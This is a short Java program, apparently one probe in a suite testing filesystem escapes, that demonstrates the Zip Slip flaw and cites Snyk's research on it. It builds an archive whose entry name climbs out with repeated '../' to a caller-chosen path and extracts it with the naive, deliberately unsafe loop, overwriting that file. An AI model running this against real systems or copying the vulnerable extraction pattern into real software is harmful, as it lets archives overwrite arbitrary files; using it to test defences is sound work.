package escape.files;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.StandardCopyOption;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/**
 * Zip Slip: makes a zip in memory whose entry name climbs out with {@code ../} to FILE, then
 * extracts it with the naive loop ({@code new File(dir, entry.getName())}) found in countless
 * programs, so the archive, not the program, picks the file written.
 *
 * <p>Source: Snyk, Zip Slip, https://security.snyk.io/research/zip-slip-vulnerability
 */
public final class ZipSlip {

    private ZipSlip() {
    }

    public static void main(String[] args) {
        File dir = new File("zip-slip-extract-" + System.nanoTime());
        try {
            ByteArrayOutputStream zip = new ByteArrayOutputStream();
            try (ZipOutputStream out = new ZipOutputStream(zip)) {
                out.putNextEntry(new ZipEntry("../".repeat(32) + args[0].substring(1)));
                out.write("escaped\n".getBytes(StandardCharsets.US_ASCII));
                out.closeEntry();
            }
            dir.mkdirs();
            try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip.toByteArray()))) {
                for (ZipEntry entry; (entry = in.getNextEntry()) != null;) {
                    File target = new File(dir, entry.getName());
                    Files.copy(in, target.toPath(), StandardCopyOption.REPLACE_EXISTING);
                    System.out.println("file-zip-slip: extracted " + target.getCanonicalPath());
                }
            }
        } catch (Throwable t) {
            System.out.println("file-zip-slip: " + t);
        } finally {
            dir.delete();
        }
    }
}
